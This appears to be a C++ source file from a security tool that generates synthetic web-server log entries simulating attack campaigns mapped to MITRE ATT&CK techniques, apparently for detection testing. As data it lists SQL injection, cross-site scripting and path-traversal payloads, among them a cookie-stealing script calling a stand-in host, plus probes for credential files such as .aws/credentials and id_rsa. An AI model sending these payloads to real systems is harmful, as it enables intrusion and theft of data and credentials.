#include "intel/generators/campaigns.h"

#include <algorithm>
#include <array>
#include <span>

#include "core/strings.h"

namespace sextant::intel {
namespace {

using Texts = std::span<const std::string_view>;

struct Facts {
  std::string_view name;
  std::string_view attack_id;  // attack.mitre.org
  std::uint64_t requests_max;
};

constexpr std::array<Facts, kTechniques> kFacts = {{
    {"sql-injection", "T1190", 120},
    {"cross-site-scripting", "T1059.007", 80},
    {"path-traversal", "T1083", 80},
    {"vulnerability-scan", "T1595.002", 400},
    {"login-brute-force", "T1110.001", 400},
    {"bucket-discovery", "T1619", 200},
    {"bucket-exfiltration", "T1530", 400},
    {"port-scan", "T1046", 1'000},
    {"dns-tunnelling", "T1071.004", 600},
    {"api-call-from-abroad", "T1078.004", 140},
    {"root-login", "T1078.004", 12},
    {"security-group-opened", "T1562.007", 10},
    {"security-group-modified", "T1562.007", 10},
    {"public-bucket", "T1530", 8},
}};

constexpr std::uint64_t kLinesACampaign = 200'000;

// Addresses of hosting providers and anonymity networks, a /24 each.
constexpr std::string_view kAttackerNetworks[] = {
    "185.220.101.", "45.155.204.", "193.32.162.", "5.188.206.",  "89.248.165.",
    "80.82.77.",    "141.98.10.",  "194.26.29.",  "62.102.148.", "171.25.193."};

constexpr std::string_view kSqlPaths[] = {
    "/products?id=", "/search?q=", "/item.php?cat=", "/api/v1/orders?customer=", "/news?article="};
constexpr std::string_view kSqlPayloads[] = {
    "1'%20OR%20'1'='1",
    "1%20UNION%20SELECT%20NULL,NULL,version()--",
    "1%27%20UNION%20ALL%20SELECT%20table_name,2,3%20FROM%20information_schema.tables--%20-",
    "-1%20OR%201=1",
    "1;DROP%20TABLE%20users--",
    "1%20AND%20SLEEP(5)",
    "1'%20AND%20(SELECT%204921%20FROM(SELECT%20COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x)a)--",
    "1%20ORDER%20BY%2010--",
    "1%20WAITFOR%20DELAY%20'0:0:5'--",
    "admin'--"};
constexpr std::string_view kScriptPaths[] = {
    "/search?q=", "/comment?text=", "/profile?name=", "/redirect?to="};
constexpr std::string_view kScriptPayloads[] = {
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
    "%3Csvg/onload=fetch('//203.0.113.66/'%2Bdocument.cookie)%3E",
    "javascript:alert(1)",
    "%3Ciframe%20src=javascript:alert(1)%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E"};
constexpr std::string_view kTraversalPaths[] = {
    "/download?file=../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fshadow",
    "/images/%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
    "/view?page=....//....//....//etc/hosts",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/files?path=..%252f..%252f..%252fetc%252fpasswd",
    "/download?file=php://filter/convert.base64-encode/resource=index.php"};
constexpr std::string_view kScannedPaths[] = {"/.env",
                                              "/.git/config",
                                              "/wp-login.php",
                                              "/phpmyadmin/",
                                              "/admin/",
                                              "/server-status",
                                              "/actuator/env",
                                              "/.aws/credentials",
                                              "/backup.zip",
                                              "/xmlrpc.php",
                                              "/solr/admin/",
                                              "/manager/html",
                                              "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                                              "/.DS_Store",
                                              "/config.json",
                                              "/api/swagger.json",
                                              "/HNAP1",
                                              "/boaform/admin/formLogin",
                                              "/owa/auth/x.js",
                                              "/console/login",
                                              "/telescope",
                                              "/debug/default/view",
                                              "/.svn/entries",
                                              "/id_rsa"};
constexpr std::string_view kToolAgents[] = {"sqlmap/1.7.2#stable (https://sqlmap.org)",
                                            "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
                                            "Mozilla/5.00 (Nikto/2.1.6)",
                                            "python-requests/2.31.0",
                                            "Mozilla/5.0 zgrab/0.x",
                                            "Nuclei - Open-source project (github.com)",
                                            "Hydra",
                                            "Go-http-client/1.1"};

std::string_view any_of(Texts texts, Dice& dice) { return texts[dice.below(texts.size())]; }

std::string joined(Texts paths, Texts payloads, Dice& dice) {
  std::string path(any_of(paths, dice));
  path += any_of(payloads, dice);
  return path;
}

// What a site answers to attacks: mostly the page itself, sometimes an error or the firewall's no.
int usual_answer(Dice& dice) {
  constexpr int kToAttacks[] = {200, 200, 200, 403, 403, 404, 500, 400};
  return kToAttacks[dice.below(std::size(kToAttacks))];
}

}  // namespace

std::string_view name_of(Technique technique) {
  return kFacts[static_cast<std::size_t>(technique)].name;
}

std::string_view attack_id_of(Technique technique) {
  return kFacts[static_cast<std::size_t>(technique)].attack_id;
}

Result<std::vector<Technique>> parse_techniques(std::string_view text,
                                                std::span<const Technique> known) {
  std::vector<Technique> techniques;
  if (text == "none" || text.empty()) return techniques;
  const auto add = [&](std::string_view name) {
    bool found = false;
    for (const auto technique : known) {
      if (name != "all" && name != name_of(technique)) continue;
      techniques.push_back(technique);
      found = true;
    }
    return found;
  };
  for (const auto part : split(text, ',')) {
    if (add(trim(part))) continue;
    std::string message = "unknown attack '" + std::string(trim(part)) + "'; there are: all, none";
    for (const auto technique : known) message += ", " + std::string(name_of(technique));
    return fail(Code::Invalid, std::move(message));
  }
  return techniques;
}

std::vector<Campaign> plan_campaigns(const std::vector<Technique>& techniques, std::uint64_t lines,
                                     Dice& dice) {
  std::vector<Campaign> campaigns;
  if (techniques.empty() || lines == 0) return campaigns;
  const auto rounds = std::max<std::uint64_t>(1, lines / (kLinesACampaign * techniques.size()));
  const auto fair = lines / (50 * techniques.size() * rounds);  // 2 % of the lines
  for (std::uint64_t round = 0; round < rounds; ++round) {
    for (const auto technique : techniques) {
      const auto most = kFacts[static_cast<std::size_t>(technique)].requests_max;
      Campaign campaign;
      campaign.id = static_cast<std::uint32_t>(campaigns.size() + 1);
      campaign.technique = technique;
      campaign.source_ip =
          std::string(any_of(kAttackerNetworks, dice)) + std::to_string(1 + dice.below(254));
      campaign.user_agent = any_of(kToolAgents, dice);
      campaign.requests_left = std::clamp<std::uint64_t>(most / 2 + dice.below(most / 2), 1,
                                                         std::max<std::uint64_t>(1, fair));
      const auto room = lines / (2 * campaign.requests_left);
      campaign.lines_between = std::clamp<std::uint64_t>(room, 1, 40);
      const auto length = campaign.lines_between * campaign.requests_left;
      campaign.next_line = dice.below(std::max<std::uint64_t>(1, lines - std::min(lines, length)));
      campaigns.push_back(std::move(campaign));
    }
  }
  return campaigns;
}

AttackRequest next_request(Campaign& campaign, Dice& dice) {
  ++campaign.sent;
  const auto size = static_cast<std::int64_t>(200 + dice.below(4'000));
  switch (campaign.technique) {
    case Technique::SqlInjection:
      return {"GET", joined(kSqlPaths, kSqlPayloads, dice), usual_answer(dice), size};
    case Technique::CrossSiteScripting:
      return {"GET", joined(kScriptPaths, kScriptPayloads, dice), usual_answer(dice), size};
    case Technique::PathTraversal:
      return {"GET", std::string(any_of(kTraversalPaths, dice)), usual_answer(dice), size};
    case Technique::VulnerabilityScan:
      return {"GET", std::string(kScannedPaths[campaign.sent % std::size(kScannedPaths)]),
              dice.chance(0.9) ? 404 : 403, size};
    case Technique::LoginBruteForce:
      return {"POST", "/login", campaign.requests_left == 1 ? 302 : 401, size};
    default: SX_CHECK(false); std::unreachable();  // not against web servers
  }
}

}  // namespace sextant::intel
